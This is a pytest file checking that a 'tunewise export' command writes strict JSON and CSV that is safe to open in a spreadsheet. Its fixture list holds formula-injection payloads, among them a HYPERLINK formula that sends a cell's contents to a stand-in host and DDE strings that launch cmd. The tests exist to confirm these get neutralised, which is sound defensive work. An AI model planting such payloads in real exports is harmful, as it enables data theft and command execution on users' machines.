"""``tunewise export``: strict JSON, spreadsheet-safe CSV with user attributes."""

from __future__ import annotations

import csv
import io
import json
import math

import pytest
from click.testing import CliRunner

import tunewise as tw
from tunewise.cli import main

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "-inf", "-"]


def _strict(text: str) -> dict:
    def refuse(name: str) -> None:
        raise ValueError(f"not strict JSON: {name}")

    return json.loads(text, parse_constant=refuse)


@pytest.fixture()
def storage(tmp_path):
    url = f"sqlite:///{tmp_path / 'export.db'}"
    study = tw.create_study(name="demo", storage=url, sampler=tw.samplers.RandomSampler(seed=0))
    for i, text in enumerate(FORMULAS + ["-1", "+2.5", "1e-3", "plain"]):
        trial = study.ask()
        x = trial.suggest_float("x", -10, -1)  # always negative: must stay a number
        trial.suggest_categorical("label", FORMULAS + ["-1", "+2.5", "1e-3", "plain"])
        trial.set_user_attr("note", text)
        trial.set_user_attr("score", [float("nan"), float("inf"), -float("inf"), 1.5][i % 4])
        trial.set_user_attr("curve", [1.0, float("inf"), {"deep": float("nan")}])
        if i == 0:
            trial.set_user_attr("only_first", -7)
        trial.report(float("inf"), 0)
        trial.report(-float("inf"), 1)
        trial.report(0.5, 2)
        study.tell(trial, x)
    return url


def _export(storage: str, *args: str) -> str:
    res = CliRunner().invoke(main, ["export", "demo", "--storage", storage, *args], catch_exceptions=False)
    assert res.exit_code == 0, res.output
    return res.output


def test_json_export_is_strict_json_with_null_for_nan_and_infinity(storage, tmp_path):
    data = _strict(_export(storage, "--format", "json"))
    target = tmp_path / "out.json"
    _export(storage, "--format", "json", "-o", str(target))
    assert _strict(target.read_text(encoding="utf-8")) == data
    trials = data["trials"]
    assert len(trials) == 12
    assert [t["user_attrs"]["score"] for t in trials[:4]] == [None, None, None, 1.5]
    assert trials[0]["user_attrs"]["curve"] == [1.0, None, {"deep": None}]
    assert trials[0]["intermediate_values"] == {"0": None, "1": None, "2": 0.5}
    study = tw.load_study("demo", storage)
    assert [t["values"] for t in trials] == [t.values for t in study.trials]  # finite values untouched
    assert trials[0]["user_attrs"]["note"] == FORMULAS[0]  # JSON is data, not a spreadsheet: no quoting


def test_csv_export_neutralises_formulas_and_keeps_numbers(storage):
    rows = list(csv.DictReader(io.StringIO(_export(storage, "--format", "csv"))))
    study = tw.load_study("demo", storage)
    assert len(rows) == 12
    for row, trial in zip(rows, study.trials):
        for column in ("params_label", "user_attrs_note"):
            cell = row[column]
            text = trial.params["label"] if column == "params_label" else trial.user_attrs["note"]
            if text in FORMULAS:
                assert cell == "'" + text, (column, cell)
            else:
                assert cell == text  # "-1", "+2.5", "1e-3" are plain numbers: left as they are
        # Negative numbers stay numbers, exactly.
        assert float(row["params_x"]) == trial.params["x"] < 0 and row["params_x"].startswith("-")
        assert float(row["value"]) == trial.value and row["value"].startswith("-")
    # No cell that a spreadsheet would run as a formula is left anywhere.
    for row in rows:
        for cell in row.values():
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                float(cell)  # only a number (-1.5, -inf) may start so


def test_csv_export_has_user_attribute_columns_like_trials_dataframe(storage):
    pytest.importorskip("pandas")
    reader = csv.DictReader(io.StringIO(_export(storage, "--format", "csv")))
    rows = list(reader)
    df = tw.load_study("demo", storage).trials_dataframe()
    attr_columns = sorted(c for c in df.columns if c.startswith("user_attrs_"))
    assert attr_columns == ["user_attrs_curve", "user_attrs_note", "user_attrs_only_first", "user_attrs_score"]
    assert [c for c in reader.fieldnames if c.startswith("user_attrs_")] == attr_columns
    assert rows[0]["user_attrs_only_first"] == "-7" and all(r["user_attrs_only_first"] == "" for r in rows[1:])
    assert [r["user_attrs_score"] for r in rows[:4]] == ["nan", "inf", "-inf", "1.5"]
    assert json.loads(rows[0]["user_attrs_curve"]) == [1.0, None, {"deep": None}]  # nested values: strict JSON
    assert all(math.isfinite(float(r["params_x"])) for r in rows)
